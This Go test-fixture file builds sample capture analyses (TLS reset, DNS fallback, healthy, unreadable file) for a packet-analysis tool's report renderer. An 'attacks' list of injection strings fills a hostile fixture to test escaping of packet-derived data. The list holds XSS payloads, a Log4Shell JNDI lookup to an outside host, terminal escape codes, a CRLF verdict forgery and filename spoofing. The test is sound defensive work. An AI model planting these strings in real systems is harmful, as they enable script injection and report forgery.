package report

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/pcapwarden/pcapwarden/internal/analysis"
	"github.com/pcapwarden/pcapwarden/internal/finding"
)

var begin = time.Date(2026, 3, 14, 2, 3, 11, 482_000_000, time.UTC)

func after(d time.Duration) time.Time { return begin.Add(d) }

func endpoint(s string) finding.Endpoint {
	var e finding.Endpoint
	if err := e.UnmarshalText([]byte(s)); err != nil {
		panic(err)
	}
	return e
}

const ms = time.Millisecond

// partnerTLS is a partner that resets every connection after the certificate.
func partnerTLS() (*analysis.Analysis, About) {
	client, server := endpoint("203.0.113.9:50312"), endpoint("10.40.1.4:443")
	flow := &finding.Flow{Protocol: "tcp", Client: client, Server: server, SNI: "uplink.orbital.example"}
	a := &analysis.Analysis{
		Schema: analysis.Schema,
		Capture: analysis.Capture{
			File: "/captures/orbital-relay/INC-4711/uplink-01.pcap", Readable: true, Format: "pcap", LinkType: "Ethernet", Bytes: 48_211,
			SHA256:  "9f2d1c6b5c2f0a4e8d7b3a1f6e5d4c3b2a190807f6e5d4c3b2a1908f7e6d5c4b",
			Packets: 142, FirstPacket: begin, LastPacket: after(12_480 * ms), SnapLength: 262_144,
		},
		Findings: []finding.Finding{
			{
				Kind: "tls.handshake-reset", Severity: finding.High, Confidence: .95, Culprit: finding.Client, Count: 6,
				Summary: "6 times, the client 203.0.113.9 dropped the connection (RST) during the TLS handshake, without an alert, right after the certificate of 10.40.1.4:443 (uplink.orbital.example).",
				First:   after(45 * ms), Last: after(11_204 * ms), Flow: flow, Packets: []int64{7, 8, 31, 55, 79, 103, 127},
				Detail:   map[string]any{"stage": "certificate", "ended": "RST", "versions": []string{"TLS 1.2", "TLS 1.3"}, "clientTTL": 52},
				NextStep: "Ask the partner what its appliance says about the certificate: its issuer, its names and its extensions.",
			},
			{
				Kind: "tcp.retransmission", Severity: finding.Low, Confidence: .7, Culprit: finding.Network, Count: 2,
				Summary: "2 segments of 10.40.1.4:443 were sent again; less than 2 % of all.",
				First:   after(3_100 * ms), Last: after(7_900 * ms), Packets: []int64{44, 91}, NextStep: "Nothing: this much is normal on the internet.",
			},
			{
				Kind: "tls.old-version", Severity: finding.Info, Confidence: .9, Culprit: finding.None, Count: 1,
				Summary: "203.0.113.9 offers TLS 1.1 beside TLS 1.2.", First: after(23 * ms), Last: after(23 * ms), Packets: []int64{4},
			},
		},
		Verdict: analysis.Verdict{
			Cause: analysis.TLSRejected, Culprit: finding.Client, Confidence: .95, Findings: []int{0},
			Summary:  "The SYN of 203.0.113.9 reached 10.40.1.4:443 and the TLS handshake started. 6 times of 6 the partner reset the connection right after it had seen the certificate of uplink.orbital.example, without an alert. Nothing between the two is at fault: the partner does not accept the certificate.",
			NextStep: "Ask the partner what its appliance says about the certificate: its issuer, its names and its extensions.",
		},
		Conversations: []analysis.Conversation{
			{
				Protocol: "tcp", Client: endpoint("203.0.113.9"), Server: server, SNI: "uplink.orbital.example", Service: "tls", Connections: 6,
				State: "RSTO", History: "ShADadR", Packets: [2]int64{54, 42}, Bytes: [2]int64{3102, 19_842}, Retransmits: 2,
				First: begin, Last: after(11_210 * ms), RTT: 21_400 * time.Microsecond,
			},
			{
				Protocol: "udp", Client: endpoint("10.40.1.4:40812"), Server: endpoint("10.40.0.10:53"), Service: "dns", Connections: 1,
				State: "SF", Packets: [2]int64{1, 1}, Bytes: [2]int64{41, 57}, First: after(900 * ms), Last: after(901 * ms),
			},
		},
	}
	a.Counters.TCP.Packets, a.Counters.TCP.Streams, a.Counters.TCP.Retransmission, a.Counters.TCP.RSTPackets = 140, 6, 2, 6
	a.Counters.TCP.FirstRSTPhaseBy = map[string]int64{"tls_handshake:client": 6}
	a.Counters.DNS.Queries, a.Counters.DNS.Responses, a.Counters.DNS.RCodes = 1, 1, map[string]int{"0": 1}
	a.Counters.TLS.HandshakeTypes = map[string]int{"1": 6, "2": 6, "11": 6, "12": 6, "14": 6}
	a.Ladders = []analysis.Ladder{{
		Finding: 0, Title: "TCP 203.0.113.9:50312 to 10.40.1.4:443", Lanes: []finding.Endpoint{client, server},
		Steps: []analysis.Step{
			{Packet: 1, Time: begin, From: 0, To: 1, Label: "SYN"},
			{Packet: 2, Time: after(90 * time.Microsecond), From: 1, To: 0, Label: "SYN, ACK"},
			{Packet: 3, Time: after(21_500 * time.Microsecond), From: 0, To: 1, Label: "ACK"},
			{Packet: 4, Time: after(23 * ms), From: 0, To: 1, Label: "client hello, uplink.orbital.example"},
			{Packet: 5, Time: after(24 * ms), From: 1, To: 0, Label: "server hello"},
			{Packet: 7, Time: after(24_300 * time.Microsecond), From: 1, To: 0, Label: "certificate", Key: true},
			{Packet: 8, Time: after(45_900 * time.Microsecond), From: 0, To: 1, Label: "RST", Key: true},
		},
	}}
	return a, About{
		Incident: "INC-4711", Case: "pw-0f3a9c12de-uplink-01", Region: "westeurope", Alert: "upload-failures", Severity: "Sev1",
		Target:  "/subscriptions/5b2f7c1e-8d43-4a96-b0e7-3c51d9a2f604/resourceGroups/orbital-relay/providers/Microsoft.Compute/virtualMachines/uplink-01",
		Fired:   after(-74 * time.Second),
		Profile: "partner-tls", Reason: "Night passes fail while nobody is at work, CHG-2318", Owner: "network-operations", Approver: "data-protection",
		Filters: []string{"TCP, local port 443, remote 203.0.113.0/28"}, Started: after(-9 * time.Second), TimeLimit: 5 * time.Minute,
		TotalBytes: 100 << 20, DeleteAfter: begin.AddDate(0, 0, 7),
	}
}

// dnsDelay is a node that asks a resolver that never answers first.
func dnsDelay() (*analysis.Analysis, About) {
	client, dead, good := endpoint("10.20.0.7"), endpoint("10.0.0.4:53"), endpoint("10.20.0.2:53")
	const name = "licence.cluster.example"
	a := &analysis.Analysis{
		Schema: analysis.Schema,
		Capture: analysis.Capture{
			File: "slow-node.pcapng", Readable: true, Format: "pcapng", LinkType: "Ethernet", Bytes: 9_120, Packets: 58,
			FirstPacket: begin, LastPacket: after(17_090 * ms), SnapLength: 256, TruncatedPackets: 9,
		},
		Verdict: analysis.Verdict{
			Cause: analysis.DNSUnreachable, Culprit: finding.Resolver, Confidence: .9, Findings: []int{0, 1},
			Summary:  "10.20.0.7 asks 10.0.0.4 first, which never answers, and falls back to 10.20.0.2 after 5 s. Each new name costs 5 s.",
			NextStep: "Look where 10.20.0.7 got 10.0.0.4 from: DHCP options, and the custom DNS servers of its network.",
		},
		Findings: []finding.Finding{
			{
				Kind: "dns.resolver-unreachable", Severity: finding.High, Confidence: .9, Culprit: finding.Resolver, Count: 3,
				Summary: "The resolver 10.0.0.4 answered none of 3 questions.", First: begin, Last: after(12_010 * ms),
				Flow: &finding.Flow{Protocol: "udp", Client: client, Server: dead}, Packets: []int64{1, 21, 40},
				NextStep: "Check the route to 10.0.0.4, and whether a DNS server runs there.",
			},
			{
				Kind: "dns.fallback", Severity: finding.Medium, Confidence: .9, Culprit: finding.Resolver, Count: 3,
				Summary: "After 5.0 s without an answer 10.20.0.7 asked 10.20.0.2, which answered in 1 ms.", First: after(5_004 * ms), Last: after(17_020 * ms),
				Flow: &finding.Flow{Protocol: "udp", Client: client, Server: good}, Packets: []int64{2, 3, 22, 23},
			},
		},
		Conversations: []analysis.Conversation{
			{Protocol: "udp", Client: client, Server: dead, Service: "dns", Connections: 3, State: "S0", Packets: [2]int64{3, 0}, Bytes: [2]int64{123, 0}, First: begin, Last: after(12_010 * ms)},
			{Protocol: "tcp", Client: endpoint("[2001:db8:aaaa:bbbb:cccc:dddd:eeee:1007]:50121"), Server: endpoint("[2001:db8:aaaa:bbbb:cccc:dddd:eeee:ffff]:27000"), Connections: 1, State: "SF", History: "ShADadFf", Packets: [2]int64{12, 11}, Bytes: [2]int64{2000, 48_000_000}, First: after(5_010 * ms), Last: after(6_000 * ms), RTT: 410 * time.Microsecond, Tunnel: "vxlan 7"},
		},
		Ladders: []analysis.Ladder{{
			Finding: 0, Title: "DNS lookup of " + name + " by 10.20.0.7", Lanes: []finding.Endpoint{client, dead, good},
			Steps: []analysis.Step{
				{Packet: 1, Time: begin, From: 0, To: 1, Label: "A " + name + "? (3 times)", Key: true},
				{Packet: 2, Time: after(5_004 * ms), From: 0, To: 2, Label: "A " + name + "?"},
				{Packet: 3, Time: after(5_005 * ms), From: 2, To: 0, Label: "NOERROR"},
			},
		}},
	}
	return a, About{Fired: after(4 * time.Second), WindowStart: after(-3 * time.Second), WindowEnd: after(3 * time.Second), Incident: "INC-9"}
}

func healthyCapture() *analysis.Analysis {
	return &analysis.Analysis{
		Schema: analysis.Schema,
		Capture: analysis.Capture{
			File: "healthy.pcap", Readable: true, Format: "pcap", LinkType: "Ethernet", Bytes: 1_204_112, Packets: 1810,
			FirstPacket: begin, LastPacket: after(5 * time.Minute), SnapLength: 65_535,
		},
		Findings: []finding.Finding{{
			Kind: "tcp.reset", Severity: finding.Info, Confidence: .9, Culprit: finding.None, Count: 3, Summary: "3 connections were reset after they had closed.",
			First: after(time.Minute), Last: after(3 * time.Minute), Packets: []int64{801, 1200, 1400},
		}},
		Verdict: analysis.Verdict{
			Cause: analysis.Healthy, Culprit: finding.None, Confidence: .8,
			Summary:  "Nothing is wrong in this capture. 9 of 9 TCP connections were established, 9 TLS handshakes came to their end.",
			NextStep: "If users still see a fault, it is not on this path or not at this time: capture at the other end, or while it happens.",
		},
	}
}

func unreadable() *analysis.Analysis {
	return &analysis.Analysis{
		Schema: analysis.Schema,
		Capture: analysis.Capture{
			File: "notes.pdf", Format: "unknown", Bytes: 20_480,
			Error: `not a capture file: it begins with "%PDF-1.7"; pcap, pcapng and Network Monitor files are read`,
		},
		Findings: []finding.Finding{{
			Kind: "capture.unreadable", Severity: finding.Medium, Confidence: 1, Culprit: finding.Capture, Count: 1,
			Summary: "The file is not a capture.", NextStep: "Check what was uploaded.",
		}},
		Verdict: analysis.Verdict{
			Cause: analysis.Inconclusive, Culprit: finding.Capture, Confidence: 1, Findings: []int{0},
			Summary: "The file is not a capture.", NextStep: "Check what was uploaded, and by whom.",
		},
	}
}

// attacks are names as strangers put them into packets.
var attacks = []string{
	`<script>alert(1)</script>`, `"onmouseover="alert(1)`, `'><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `</style><style>*{display:none}`,
	"evil\u202egnp.exe", "zero\u200bwidth\ufeff", "\x1b[2J\x1b]0;owned\x07", "a\r\nVerdict: healthy", `{{.Policy}}`, "${jndi:ldap://192.0.2.1/a}",
	"<svg/onload=alert(1)>", "https://192.0.2.1/login", strings.Repeat("w", 400), "bad\xff\xfeutf8", "\u05d0\u05d1 1.2.3.4", "<!-- -->", "]]>", "&lt;b&gt;",
}

// hostile is a capture in which everything that a stranger may choose is an
// attack.
func hostile(n int) (*analysis.Analysis, About) {
	a, about := partnerTLS()
	a.Capture.File = attacks[0] + attacks[5] + ".pcap"
	a.Verdict.Summary = "The name was " + strings.Join(attacks, " then ") + "."
	a.Findings = nil
	kinds := []finding.Kind{"dns.failure", "tls.alert", "traffic.beacon", "exposure.cleartext-credentials", "tcp.reset", "dns.slow"}
	for i := range n {
		s := attacks[i%len(attacks)]
		a.Findings = append(a.Findings, finding.Finding{
			Kind: kinds[i%len(kinds)], Severity: finding.Critical - finding.Severity(i*5/n), Confidence: float64(i%10) / 9, Culprit: finding.Server, Count: i,
			Summary: fmt.Sprintf("The server says %s, and that is finding %d.", s, i), First: after(time.Duration(i) * 30 * ms), Last: after(time.Duration(i) * 41 * ms),
			Flow:    &finding.Flow{Protocol: "tcp", Client: endpoint("[2001:db8::1]:5000"), Server: finding.Endpoint{AddrPort: netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(i)}), 443)}, SNI: s},
			Packets: []int64{int64(i + 1), int64(i + 2)}, Detail: map[string]any{"name": s, s: []any{s, 1.5, map[string]any{s: s}}}, NextStep: "Look at " + s,
		})
	}
	a.Verdict.Findings = []int{3, 1, 999, -4}
	a.Ladders[0].Title, a.Ladders[0].Finding = attacks[1], 7
	a.Ladders[0].Steps = nil
	for i := range analysis.MaxLadderSteps {
		a.Ladders[0].Steps = append(a.Ladders[0].Steps, analysis.Step{
			Packet: int64(i * 1000), Time: after(time.Duration(i*i) * 3 * ms), From: i % 2, To: (i + 1) % 2, Label: attacks[i%len(attacks)], Key: i%7 == 0,
		})
	}
	a.Ladders[0].Steps[4].From, a.Ladders[0].Steps[5].To = -1, 9
	a.Conversations = nil
	for i := range analysis.MaxConversations {
		s := attacks[i%len(attacks)]
		a.Conversations = append(a.Conversations, analysis.Conversation{
			Protocol: "tcp", Client: endpoint("[2001:db8:aaaa:bbbb:cccc:dddd:eeee:1007]:50121"), Server: endpoint("[2001:db8:aaaa:bbbb:cccc:dddd:eeee:ffff]:27000"),
			SNI: s, Service: s, Tunnel: s, State: s, History: s, Connections: i, Packets: [2]int64{1 << 40, 1 << 41}, Bytes: [2]int64{1 << 50, 1 << 20},
		})
	}
	a.Counters.TCP.FirstRSTPhaseBy = map[string]int64{attacks[0]: 1}
	a.Limits = analysis.Limits{Hit: true, Dropped: map[string]int64{"flows": 1000, attacks[2]: 5}}
	about.Target, about.Reason, about.Filters = attacks[0], attacks[6], attacks
	return a, about
}
